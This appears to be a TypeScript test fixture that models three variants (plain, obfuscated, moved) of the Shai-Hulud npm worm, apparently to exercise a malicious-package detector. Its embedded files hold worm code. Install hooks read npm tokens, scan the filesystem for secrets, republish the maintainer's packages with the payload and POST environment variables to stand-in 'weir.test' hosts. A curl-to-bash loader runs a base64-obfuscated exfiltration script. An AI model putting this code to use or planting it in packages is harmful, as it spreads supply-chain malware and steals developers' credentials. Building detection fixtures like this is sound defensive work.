import { type Campaign, manifest, scripted, tabled } from './kit.ts';

export const campaign: Campaign = {
  id: 'shai-hulud',
  row: 'Shai-Hulud 1, 2, Golden Path 2025',
  variants: [
    {
      concealment: 'plain',
      files: scripted(
        { postinstall: 'node bundle.js' },
        {
          'bundle.js': `const { execSync } = require('child_process');
const fs = require('fs'), os = require('os'), path = require('path');
async function main() {
  const npmrc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
  const token = /_authToken=(.+)/.exec(npmrc)?.[1];
  execSync('./trufflehog filesystem / --json > /tmp/secrets.json');
  const who = await (await fetch('https://registry.weir.test/-/whoami', { headers: { authorization: 'Bearer ' + token } })).json();
  const mine = await (await fetch('https://registry.weir.test/-/v1/search?text=maintainer:' + who.username + '&size=20')).json();
  for (const { package: p } of mine.objects) {
    execSync('npm pack ' + p.name + ' && tar -xzf *.tgz');
    const m = JSON.parse(fs.readFileSync('package/package.json'));
    m.scripts = { ...m.scripts, postinstall: 'node bundle.js' };
    fs.writeFileSync('package/package.json', JSON.stringify(m));
    fs.copyFileSync(__filename, 'package/bundle.js');
    execSync('npm publish package');
  }
  fs.mkdirSync('.github/workflows', { recursive: true });
  fs.writeFileSync('.github/workflows/shai-hulud-workflow.yml', 'on: push\\njobs: {}\\n');
  await fetch('https://exfil.weir.test/bb8ca5f6', { method: 'POST', body: JSON.stringify(process.env) });
}
main();
`,
        },
      ),
    },
    {
      concealment: 'obfuscated',
      files: scripted(
        { preinstall: 'node setup_bun.js' },
        {
          'setup_bun.js': `#!/usr/bin/env node
const { spawn, execSync } = require('child_process');
const path = require('path'), fs = require('fs'), os = require('os');
function isBunOnPath() { try { execSync('which bun', { stdio: 'ignore' }); return true; } catch { return false; } }
async function downloadAndSetupBun() {
  let command;
  if (process.platform === 'win32') command = 'powershell -c "irm bun.sh/install.ps1|iex"';
  else command = 'curl -fsSL https://bun.sh/install | bash';
  execSync(command, { stdio: 'ignore', env: { ...process.env } });
  return path.join(os.homedir(), '.bun', 'bin', 'bun');
}
function runExecutable(bun, args) { const child = spawn(bun, args, { stdio: 'ignore', detached: true }); child.unref(); }
(async () => {
  const bun = isBunOnPath() ? 'bun' : await downloadAndSetupBun();
  const script = path.join(__dirname, 'bun_environment.js');
  if (fs.existsSync(script)) runExecutable(bun, [script]);
})();
`,
          'bun_environment.js': tabled(
            'base64',
            (h) =>
              `const e = process[${h('env')}]; fetch(${h('https://collect.weir.test/x')}, { method: ${h('POST')}, body: JSON[${h('stringify')}](e) });\n`,
          ),
        },
      ),
    },
    {
      concealment: 'moved',
      files: {
        'package.json': manifest({ main: 'lib/index.js' }),
        'lib/index.js': `module.exports = require('./core');\nsetTimeout(() => require('./propagate-core').start(), 3000);\n`,
        'lib/core.js': 'module.exports = {};\n',
        'lib/propagate-core.js': `const cp = require('child_process'), fs = require('fs'), path = require('path'), os = require('os');
exports.start = function () {
  const rc = path.join(os.homedir(), '.npmrc');
  if (!fs.existsSync(rc)) return;
  for (const dir of fs.readdirSync(process.cwd() + '/packages')) {
    cp.spawnSync('npm', ['version', 'patch'], { cwd: dir });
    cp.spawnSync('npm', ['publish', '--access', 'public'], { cwd: dir });
  }
};
`,
      },
    },
  ],
};
